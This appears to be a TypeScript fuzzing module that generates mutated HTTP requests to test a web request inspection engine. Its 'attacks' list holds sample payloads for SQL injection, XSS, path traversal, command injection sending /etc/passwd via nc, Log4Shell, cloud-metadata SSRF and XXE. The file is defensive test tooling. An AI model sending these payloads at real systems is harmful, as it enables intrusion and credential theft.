// Requests for the whole receiver: attacks and harmless text, mutated, in every place that is inspected. The framing is left
// whole, so each is one request; streams with broken framing are made by random-requests.ts.
import { mutate } from '../mutations.js'
import type { Random } from '../random.js'

const attacks = [
  '$globals',
  "1' OR '1'='1' UNION SELECT login,password FROM users--",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc 10.0.0.1 99',
  '{{7*7}}$\u007bjndi:ldap://x/a}',
  'http://169.254.169.254/latest/meta-data/',
  'O:8:"stdClass":0:{}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'phpinfo();',
] as const
const harmless = [
  'union square hotels',
  "o'neill & sons",
  'a gift, please',
  'correct horse battery staple',
  '17',
  '',
  'Grüße, 世界',
  'YWxlcnQoMSk=',
  '%2e%2e%2f%00',
  '[[[[[[{"a":[',
] as const
/** Requests hold several values; so most are cleared by the prefilter, and a good part goes to the engine. */
const attackShare = 0.04
const methods = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'] as const
const headerNames = [
  'User-Agent',
  'Cookie',
  'Referer',
  'X-Forwarded-For',
  'Accept',
  'X-Custom',
  'Authorization',
] as const
const boundary = 'b0undary'

/** One request as bytes. */
export function mutatedRequest(random: Random): Buffer {
  const hasBody = random.chance(0.5)
  const method = hasBody ? random.pick(['POST', 'PUT', 'PATCH'] as const) : random.pick(methods)
  const lines = [`${method} ${target(random)} HTTP/1.1`, 'Host: app.example']
  const headerCount = random.below(4)
  for (let index = 0; index < headerCount; index += 1) lines.push(`${random.pick(headerNames)}: ${headerValue(random)}`)
  if (!hasBody) return Buffer.from(`${lines.join('\r\n')}\r\n\r\n`)
  const { type, text } = random.pick(bodies)(random)
  const body = random.chance(0.1) ? damageBytes(Buffer.from(text), random) : Buffer.from(text)
  if (random.chance(0.9)) lines.push(`Content-Type: ${type}`)
  if (random.chance(0.8)) return join(lines, `Content-Length: ${body.length}`, body)
  return join(lines, 'Transfer-Encoding: chunked', chunked(body, random))
}

type MakeBody = (random: Random) => { readonly type: string; readonly text: string }

const form: MakeBody = (random) => ({ type: 'application/x-www-form-urlencoded', text: pairs(random) })

const json: MakeBody = (random) => {
  const text = JSON.stringify({
    [value(random)]: [value(random), { [value(random)]: value(random) }],
    n: random.next(),
  })
  return { type: 'application/json', text: random.chance(0.3) ? mutate(text, random) : text }
}

const multipart: MakeBody = (random) => {
  const part = `--${boundary}\r\nContent-Disposition: form-data; name="${value(random)}"; filename="${value(random)}"\r\n\r\n`
  return { type: `multipart/form-data; boundary=${boundary}`, text: `${part}${value(random)}\r\n--${boundary}--\r\n` }
}

const xml: MakeBody = (random) => ({
  type: 'application/xml',
  text: `<a b="${value(random)}">${value(random)}<c>${value(random)}</c></a>`,
})

const plain: MakeBody = (random) => ({
  type: random
    .pick(['text/plain', 'application/octet-stream', 'text/plain; charset=utf-16le', value(random)])
    .replace(/[\0-\x1f\x7f]/g, ''),
  text: value(random),
})

const bodies: readonly MakeBody[] = [form, json, multipart, xml, plain]

function value(random: Random): string {
  return mutate(random.pick(random.chance(attackShare) ? attacks : harmless), random)
}

function pairs(random: Random): string {
  const count = 1 + random.below(3)
  return Array.from({ length: count }, () => `${random.pick(['q', 'id', value(random)])}=${value(random)}`).join('&')
}

/** Bytes that would end the target or the head are encoded; others, above 127 too, are sent as they are. */
function target(random: Random): string {
  const path = random.chance(0.3) ? `/${value(random)}` : '/p'
  const text = random.chance(0.8) ? `${path}?${pairs(random)}` : path
  return text.replace(/[\0-\x20\x7f]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
}

function headerValue(random: Random): string {
  return value(random).replace(/[\0\r\n]/g, ' ')
}

function damageBytes(bytes: Buffer, random: Random): Buffer {
  const count = 1 + random.below(4)
  for (let index = 0; index < count && bytes.length > 0; index += 1)
    bytes[random.below(bytes.length)] = random.below(256)
  return bytes
}

function chunked(body: Buffer, random: Random): Buffer {
  const cut = random.below(body.length + 1)
  const pieces = [body.subarray(0, cut), body.subarray(cut)].filter(({ length }) => length > 0)
  const framed = pieces.flatMap((piece) => [
    Buffer.from(`${piece.length.toString(16)}\r\n`),
    piece,
    Buffer.from('\r\n'),
  ])
  return Buffer.concat([...framed, Buffer.from('0\r\n\r\n')])
}

function join(lines: readonly string[], last: string, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n${last}\r\n\r\n`), body])
}
